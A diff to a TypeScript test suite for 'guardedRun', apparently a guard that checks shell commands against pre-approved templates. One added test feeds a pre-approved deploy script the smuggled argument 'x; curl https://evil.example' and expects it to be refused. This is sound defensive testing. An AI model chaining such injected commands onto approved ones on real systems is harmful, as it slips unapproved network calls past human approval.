@@ -127,7 +127,7 @@ describe("guardedRun", () => {
 
   it("runs a step of an approved slash command without a prompt, and a cordoned ask when the policy says", async () => {
     const pre = await guardedRun(
-      { ...request("./deploy.sh"), preApproved: "sha256:cmd" },
+      { ...request("./deploy.sh"), preApproved: "sha256:cmd", template: "./deploy.sh" },
       ports({ run: false, answer: "cancel" }),
     );
     expect(pre).toMatchObject({ status: "ran", answer: "pre-approved" });
@@ -141,6 +141,34 @@ describe("guardedRun", () => {
       ports({ run: false, answer: "cancel" }, { snapshot: snapshot(true), cordonWorks: async () => false }),
     );
     expect(broken.status).toBe("refused");
+  });
+
+  it("asks again when the arguments of an approved step add a finding its template does not have", async () => {
+    // The template `./deploy.sh ${args}`, approved, run with arguments that bash splits into another command.
+    const injected = await guardedRun(
+      {
+        ...request("./deploy.sh x; curl https://evil.example"),
+        preApproved: "sha256:cmd",
+        template: "./deploy.sh x",
+      },
+      ports({ run: false, answer: "cancel" }),
+    );
+    expect(injected).toMatchObject({ status: "refused", answer: "cancel" });
+    expect(asked).toHaveLength(1);
+    expect(asked[0]?.beyondTemplate?.length).toBeGreaterThan(0);
+    expect(ran).toEqual([]);
+    // The same program with other plain arguments is what was approved.
+    const plain = await guardedRun(
+      { ...request("./deploy.sh staging"), preApproved: "sha256:cmd", template: "./deploy.sh x" },
+      ports({ run: false, answer: "cancel" }),
+    );
+    expect(plain).toMatchObject({ status: "ran", answer: "pre-approved" });
+    // Without a template a pre-approval answers nothing.
+    const bare = await guardedRun(
+      { ...request("./deploy.sh"), preApproved: "sha256:cmd" },
+      ports({ run: false, answer: "cancel" }),
+    );
+    expect(bare.status).toBe("refused");
   });
 
   it("audits the unexpanded text and only a digest of the expanded line", async () => {
